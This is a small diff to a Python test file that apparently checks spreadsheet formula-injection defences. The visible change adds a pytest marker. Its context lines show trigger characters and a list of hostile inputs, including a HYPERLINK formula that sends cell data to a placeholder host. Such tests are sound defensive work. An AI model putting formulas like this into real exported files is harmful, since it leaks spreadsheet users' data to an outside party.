@@ -11,6 +11,8 @@ from python_calamine import CalamineWorkbook
 
 from fairway.foundation.text import csv_lines, csv_response, safe_cell, write_xlsx
 
+pytestmark = pytest.mark.once
+
 STARTS = "=+-@＝＋－＠"
 HOSTILE = [
     '=HYPERLINK("http://evil.example?x="&A1,"Click")',
